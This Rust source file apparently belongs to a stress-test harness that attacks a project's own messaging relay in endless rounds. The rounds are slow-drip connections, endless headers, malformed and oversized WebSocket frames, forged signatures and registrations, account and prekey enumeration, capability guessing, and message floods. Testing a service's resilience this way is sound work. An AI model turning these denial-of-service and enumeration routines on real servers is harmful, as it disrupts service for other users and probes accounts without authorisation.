//! The attacks. Each function is one round of one of them; rounds follow each other without end.

use std::{net::Ipv4Addr, time::Duration};

use anyhow::Result;
use bytes::Bytes;
use subrosa_wire::{
    Capability, DeliveryKey, DeviceAddress,
    http::{GetDevices, HttpCall, HttpMessage, Register, Resolve, TakePrekeys},
    limits::MAX_SUBMIT_FRAME_BYTES,
    mailbox::{LoginMarks, MailboxClientFrame},
    submit::{EnvelopeClass, Submit, SubmitClientFrame, SubmitItem},
};
use tokio::{
    io::AsyncWriteExt,
    time::{sleep, timeout},
};

use super::{
    Victim,
    raw::{ask, connect, drain, frame, header, upgrade},
};
use crate::relay_client::Device;

/// A round that the relay does not end is ended after this, so that the next begins.
const ROUND: Duration = Duration::from_secs(20);
/// Between two bytes of a slow sender.
const DRIP: Duration = Duration::from_millis(50);
/// Items of one guessing submission.
const GUESSES: usize = 200;
/// Largest bodies that a stuck reader has sent to itself: more than all buffers hold.
const STUCK_MESSAGES: u64 = 64;

/// One round of each kind, by name.
pub const KINDS: [&str; 13] = [
    "silent",
    "drip",
    "endless",
    "garbage",
    "fragments",
    "hoard",
    "forged",
    "register",
    "enumerate",
    "guess",
    "stuck",
    "connects",
    "flood",
];

/// One round of the named kind.
pub(super) async fn round(kind: &str, victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let round = async {
        match kind {
            "silent" => silent(victim, source).await,
            "drip" => drip(victim, source).await,
            "endless" => endless(victim, source).await,
            "garbage" => garbage(victim, source).await,
            "fragments" => fragments(victim, source).await,
            "hoard" => hoard(victim, source).await,
            "forged" => forged(victim, source).await,
            "register" => register(victim, source).await,
            "enumerate" => enumerate(victim, source).await,
            "guess" => guess(victim, source).await,
            "stuck" => stuck(victim, source).await,
            "connects" => connect(source, &victim.authority).await.map(drop),
            _ => flood(victim, source).await,
        }
    };
    timeout(ROUND, round).await.unwrap_or(Ok(()))
}

/// Connections that say nothing.
async fn silent(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let mut held = Vec::new();
    for _ in 0..50 {
        held.push(connect(source, &victim.authority).await?);
    }
    for stream in &mut held {
        drain(stream).await;
    }
    Ok(())
}

/// A request, a body and a frame, one byte at a time.
async fn drip(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let mut head = connect(source, &victim.authority).await?;
    head.write_all(b"GET /v1/mailbox HTTP/1.1\r\nX: ").await?;
    let mut body = connect(source, &victim.authority).await?;
    body.write_all(b"POST /v1/register HTTP/1.1\r\nHost: x\r\nContent-Length: 9000\r\n\r\n").await?;
    let mut socket = upgrade(source, &victim.authority, "/v1/submit").await?;
    socket.write_all(&header(0x82, 60_000)).await?;
    loop {
        for stream in [&mut head, &mut body, &mut socket] {
            stream.write_all(b"x").await?;
        }
        sleep(DRIP).await;
    }
}

/// Headers, lines and bodies without end.
async fn endless(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let post = "POST /v1/devices HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n";
    for (head, more) in [
        ("GET / HTTP/1.1\r\nX: ", "x".repeat(4096)),
        ("GET / HTTP/1.1\r\n", "X: y\r\n".repeat(700)),
        (post, format!("1000\r\n{}\r\n", "x".repeat(4096))),
        (post, format!("1;{}", "x".repeat(4096))),
    ] {
        let mut stream = connect(source, &victim.authority).await?;
        stream.write_all(head.as_bytes()).await?;
        while stream.write_all(more.as_bytes()).await.is_ok() {}
    }
    Ok(())
}

/// Frames that are none, too large, compressed, or do nothing by the thousand.
async fn garbage(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let flood = frame(0x89, b"ping").repeat(2_000);
    for (path, bytes) in [
        ("/v1/submit", frame(0x82, &[0xff; 500])),
        ("/v1/mailbox", frame(0x82, &[0xff; 500])),
        ("/v1/submit", header(0x82, 1 << 40)),
        ("/v1/mailbox", header(0x82, 10 << 20)),
        ("/v1/submit", frame(0xc2, b"compressed")),
        ("/v1/mailbox", frame(0x81, b"text")),
        ("/v1/submit", flood.clone()),
        ("/v1/mailbox", flood),
        ("/v1/submit", vec![0xff; 4096]),
    ] {
        let mut stream = upgrade(source, &victim.authority, path).await?;
        stream.write_all(&bytes).await?;
        drain(&mut stream).await;
    }
    Ok(())
}

/// A message of nothing in pieces without end.
async fn fragments(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let mut stream = upgrade(source, &victim.authority, "/v1/submit").await?;
    stream.write_all(&frame(0x02, b"")).await?;
    let nothing = frame(0x00, b"").repeat(1_000);
    while stream.write_all(&nothing).await.is_ok() {}
    Ok(())
}

/// The largest frames, all but the last byte, and then nothing.
async fn hoard(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let mut held = Vec::new();
    let almost = vec![0; MAX_SUBMIT_FRAME_BYTES - 1];
    for _ in 0..50 {
        let mut stream = upgrade(source, &victim.authority, "/v1/submit").await?;
        stream.write_all(&header(0x82, MAX_SUBMIT_FRAME_BYTES)).await?;
        if stream.write_all(&almost).await.is_err() {
            break;
        }
        held.push(stream);
    }
    for stream in &mut held {
        drain(stream).await;
    }
    Ok(())
}

/// Wrong signatures for the victim's device.
async fn forged(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let mut stream = upgrade(source, &victim.authority, "/v1/mailbox").await?;
    let auth = MailboxClientFrame::Auth {
        device: DeviceAddress { account: victim.account, device: 1 },
        authority: victim.authority.clone(),
        pin: None,
        marks: LoginMarks::default(),
        signature: std::array::from_fn(|_| rand::random()),
    };
    stream.write_all(&frame(0x82, &MailboxClientFrame::Hello(vec![1]).encode())).await?;
    stream.write_all(&frame(0x82, &auth.encode())).await?;
    drain(&mut stream).await;
    Ok(())
}

/// Registrations whose last signature does not verify, after all the others did.
async fn register(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let forged = Register { proof: [7; 64], ..Device::registration(&victim.authority, &name())?.1 };
    let body = forged.encode();
    let mut stream = connect(source, &victim.authority).await?;
    loop {
        ask(&mut stream, Register::PATH, &body).await?;
    }
}

fn name() -> String {
    format!("a{}", hex::encode(rand::random::<[u8; 8]>()))
}

/// Names, lists and keys of whoever may be there.
async fn enumerate(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let mut stream = connect(source, &victim.authority).await?;
    let device = DeviceAddress { account: victim.account, device: 1 };
    loop {
        ask(&mut stream, Resolve::PATH, &Resolve { handle: name().parse()? }.encode()).await?;
        ask(&mut stream, GetDevices::PATH, &GetDevices { account: victim.account }.encode()).await?;
        for capability in [None, Some(Capability::DeliveryKey(DeliveryKey::new(rand::random())))] {
            ask(&mut stream, TakePrekeys::PATH, &TakePrekeys::one(device, capability).encode()).await?;
        }
    }
}

/// Submissions with capabilities that do not fit.
async fn guess(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let item = || SubmitItem {
        device: DeviceAddress { account: victim.account, device: 1 },
        capability: Some(Capability::DeliveryKey(DeliveryKey::new(rand::random()))),
        class: EnvelopeClass::Durable,
        expiry_s: 0,
        head: std::array::from_fn(|_| rand::random()),
        body_ref: 0,
        list_version: 1,
    };
    let submit = Submit { bodies: vec![Bytes::from(vec![7; 512])], items: (0..GUESSES).map(|_| item()).collect() };
    let guess = frame(0x82, &SubmitClientFrame::Submit { id: 1, submit }.encode());
    let mut stream = upgrade(source, &victim.authority, "/v1/submit").await?;
    stream.write_all(&frame(0x82, &SubmitClientFrame::Hello(vec![1]).encode())).await?;
    let (mut reading, mut writing) = stream.split();
    let guessing = async { while writing.write_all(&guess).await.is_ok() {} };
    let reading =
        async { while tokio::io::copy(&mut reading, &mut tokio::io::sink()).await.is_ok_and(|count| count > 0) {} };
    tokio::select! {
        () = guessing => {}
        () = reading => {}
    }
    Ok(())
}

/// A mailbox whose owner asks for everything and reads nothing.
async fn stuck(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let own = Device::register_from(source, &victim.authority, &name()).await?;
    let mut socket = own.open_mailbox(&victim.authority).await?;
    let mut stream = upgrade(source, &victim.authority, "/v1/submit").await?;
    stream.write_all(&frame(0x82, &SubmitClientFrame::Hello(vec![1]).encode())).await?;
    for submit in own.bulk(STUCK_MESSAGES) {
        stream.write_all(&frame(0x82, &submit)).await?;
    }
    // Signs of life, until the relay has had enough.
    while crate::relay_client::send(&mut socket, MailboxClientFrame::Ping.encode()).await.is_ok() {
        sleep(DRIP).await;
    }
    Ok(())
}

/// Valid messages to an account of the attacker's own, as fast as the relay takes them.
async fn flood(victim: &Victim, source: Ipv4Addr) -> Result<()> {
    let own = Device::register_from(source, &victim.authority, &name()).await?;
    drop(own.open_mailbox(&victim.authority).await?);
    let mut stream = upgrade(source, &victim.authority, "/v1/submit").await?;
    stream.write_all(&frame(0x82, &SubmitClientFrame::Hello(vec![1]).encode())).await?;
    let (mut reading, mut writing) = stream.split();
    let messages: Vec<Vec<u8>> = own.sealed_by(&own, 2_000)?.iter().map(|submit| frame(0x82, submit)).collect();
    let flooding = async {
        for message in messages {
            if writing.write_all(&message).await.is_err() {
                return;
            }
        }
    };
    let reading =
        async { while tokio::io::copy(&mut reading, &mut tokio::io::sink()).await.is_ok_and(|count| count > 0) {} };
    tokio::select! {
        () = flooding => {}
        () = reading => {}
    }
    Ok(())
}
